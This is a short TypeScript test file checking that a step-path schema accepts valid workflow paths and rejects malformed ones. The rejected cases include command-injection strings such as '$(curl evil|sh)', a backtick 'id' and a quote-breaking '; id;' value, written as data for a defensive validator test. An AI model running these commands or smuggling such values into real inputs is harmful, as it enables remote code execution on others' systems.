import { stepPathSchema } from './run-question.schema.ts';

test.each(['2', '3[2]/1', '3/catch/1', '4/else/2', '5/finally/1', '3/if', '3[1]/until', '3[1]/more', '3[1]/next'])(
  '%s is the path of a step, in a run or in a branch',
  (path) => {
    for (const at of [path, `7/on_the_Left/${path}`]) expect(stepPathSchema.parse(at)).toBe(at);
  },
);

test.each(['$(curl evil|sh)', '`id`', '1"; id; "', "1' 2", '1\\', '1\n2', '1\u001b[2J'])(
  '%j is no step path',
  (path) => {
    expect(stepPathSchema.safeParse(path).success).toBe(false);
  },
);
